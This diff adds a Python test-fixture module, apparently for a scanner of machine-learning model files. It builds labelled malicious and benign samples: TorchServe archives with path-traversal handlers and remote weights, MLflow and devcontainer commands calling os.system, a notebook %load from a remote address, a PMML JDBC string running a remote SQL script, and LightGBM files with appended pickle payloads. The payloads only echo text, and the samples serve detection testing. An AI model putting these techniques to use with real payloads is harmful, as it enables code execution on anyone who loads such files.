@@ -1,0 +1,76 @@
+"""Commands, code in commands, and files of elsewhere that the configuration beside a model names."""
+
+from __future__ import annotations
+
+import json
+
+from stannary.testing.forges._small_zip import small_zip
+from stannary.testing.forges.boosters import LIGHTGBM
+from stannary.testing.forges.configs import PICKLE, file
+
+__all__: list[str] = []
+
+
+def _mar(**fields: str) -> bytes:
+    return small_zip({"MAR-INF/MANIFEST.json": json.dumps({"model": {"modelName": "m", **fields}}).encode()})
+
+
+file("mar.handler_elsewhere", "model.mar", _mar(handler="/opt/shared/handler.py:handle"), "TorchServe")
+file("mar.handler_above", "model.mar", _mar(handler="../../handler.py"), "TorchServe")
+file(
+    "mar.weights_from_address",
+    "model.mar",
+    _mar(handler="image_classifier", serializedFile="http://203.0.113.9/m.pt"),
+    "TorchServe",
+)
+file("mar.plain", "model.mar", _mar(handler="image_classifier", serializedFile="model.pt"), "TorchServe", malicious=False)
+
+_PROJECT = "name: p\nentry_points:\n  main:\n    command: {}\n"
+file("yaml.mlproject_code", "MLproject", _PROJECT.format('"python -c \\"import os; os.system(\'echo stannary\')\\" {a}"'), "MLflow")
+file("yaml.mlproject_code_flags", "MLproject", _PROJECT.format("python3 -u -Wc \"import os; os.popen('echo stannary')\""), "MLflow")
+file(
+    "yaml.mlproject_code_plain",
+    "MLproject",
+    _PROJECT.format('python -c "import torch; print(torch.__version__)"'),
+    "MLflow",
+    malicious=False,
+)
+file(
+    "json.devcontainer_code",
+    "devcontainer.json",
+    json.dumps({"postCreateCommand": ["python", "-c", "import os; os.system('echo stannary')"]}),
+    "configuration",
+)
+
+file("json.tokenizer_class", "tokenizer_config.json", json.dumps({"tokenizer_class": "os.system"}), "JSON with code tags")
+file(
+    "json.tokenizer_class_plain",
+    "tokenizer_config.json",
+    json.dumps({"tokenizer_class": "LlamaTokenizer", "processor_class": "LlavaProcessor"}),
+    "JSON with code tags",
+    malicious=False,
+)
+
+
+def _cell(source: str) -> str:
+    cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [], "source": [source]}
+    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+
+
+file("notebook.loads_address", "train.ipynb", _cell("%load http://203.0.113.9/x.py"), "notebooks")
+file(
+    "notebook.loads_file", "train.ipynb", _cell("%load utils.py\n%load_ext autoreload\n%run train.py"), "notebooks", malicious=False
+)
+
+file(
+    "pmml.database",
+    "model.pmml",
+    '<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><DataDictionary/><TableLocator>'
+    '<Extension name="jdbc" value="jdbc:h2:mem:x;INIT=RUNSCRIPT FROM \'http://203.0.113.9/x.sql\'"/></TableLocator></PMML>',
+    "PMML",
+)
+file("lightgbm.tail_pickle", "model.txt", LIGHTGBM.encode() + PICKLE, "LightGBM")
+file("lightgbm.tail_text_pickle", "model.txt", LIGHTGBM.encode() + b"cposix\nsystem\n(S'echo stannary'\ntR.", "LightGBM")
+file(
+    "lightgbm.no_categories_pickle", "model.txt", LIGHTGBM.encode().replace(b"pandas_categorical:null\n", b"") + PICKLE, "LightGBM"
+)
